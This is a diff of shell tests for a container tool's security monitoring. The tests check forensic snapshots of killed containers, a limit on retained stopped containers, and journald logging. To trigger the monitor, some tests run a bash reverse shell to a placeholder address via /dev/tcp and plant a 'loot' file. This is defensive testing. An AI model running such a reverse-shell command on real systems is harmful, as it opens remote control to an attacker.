@@ -152,8 +152,9 @@ attack() { # NAME
 	within 10 not_running "$1"
 }
 
-kept() { # NAME: it is stopped, and its snapshot is there
-	coi snapshot list -c "$1" --format json | grep -q "forensics-.*"
+kept() { # NAME [COUNT]: so many snapshots of it as it was killed are there
+	[ "$(coi snapshot list -c "$1" --format json | jq -r '.. | .name? // empty' |
+		grep -c '^forensics-')" = "${2:-1}" ]
 }
 
 cleaned() { # NAME: no supervisor of it is left
@@ -168,13 +169,11 @@ cleaned() { # NAME: no supervisor of it is left
 		inside f1 bash -c 'echo loot >/root/loot'
 		attack f1
 		within 10 cleaned f1
-		within 10 kept f1
+		within 10 kept f1 $((i < 3 ? i : 3))
 		[ "$i" = 4 ] || coi container start f1
 	done
 	told() { [ "$(grep -c "its files as snapshot 'forensics-" "$HOME/.coi/logs/f1.session.log")" = 4 ]; }
 	within 10 told
-	three() { [ "$(coi snapshot list -c f1 --format json | jq -r '.. | .name? // empty' | grep -c '^forensics-')" = 3 ]; }
-	within 10 three
 	coi logs f1 | grep "its files as snapshot 'forensics-"
 	coi snapshot list -c f1 --format json | grep -q 'when monitoring killed it: [A-Z]'
 	has "$A/f1.jsonl" '.type == "snapshot.create" and (.snapshot | startswith("forensics-"))'
@@ -199,14 +198,21 @@ cleaned() { # NAME: no supervisor of it is left
 	coi diff "$name" | grep -q /tmp/loot
 	# The next one of the workspace is another one.
 	[ "$(coi run -- hostname 2>/dev/null)" != "$name" ]
-	# No more than three of them.
-	for i in 1 2 3; do
+	# Once it is taken up again it is not there for that alone.
+	coi container start "$name"
+	coi container exec "$name" -- sh -c 'echo work >/tmp/work'
+	coi container stop --force "$name"
+	# No more than three of the others.
+	for i in 1 2 3 4; do
 		coi run -- bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1; sleep 60' 3>&- >/dev/null 2>&1 || true
 	done
-	three() { [ "$(coi container list --format json | jq '[.[] | select(.status == "Stopped")] | length')" = 3 ]; }
+	three() { [ "$(coi container list --format json | jq --arg n "$name" '[.[] | select(.status == "Stopped" and .name != $n)] | length')" = 3 ]; }
 	# Three there are before the oldest has gone, too: when nobody is at it any more.
 	within 20 quiet
 	three
+	coi container start "$name"
+	[ "$(coi container exec "$name" -- cat /tmp/work)" = work ]
+	coi container stop --force "$name"
 	coi clean --force
 	[ "$(coi container list --format json | jq 'length')" = 0 ]
 }
@@ -277,7 +283,7 @@ with open(sys.argv[1], "ab", 0) as f:
 	within 10 read_it
 	grep -q '^PRIORITY=2$' "$T/journal"
 	grep -q '^COI_CONTAINER=j1$' "$T/journal"
-	grep -q '[0-9] records of coi did not reach the journal' "$T/journal"
+	grep -q '[0-9] records of coi did not reach journald' "$T/journal"
 	sed -n 's/^COI_RECORD=//p' "$T/journal" | jq -se 'any(.[]; .level == "critical" and .action == "killed")'
 	# What the container runs is in its file, and there alone.
 	has "$A/j1.jsonl" '.type == "exec"'
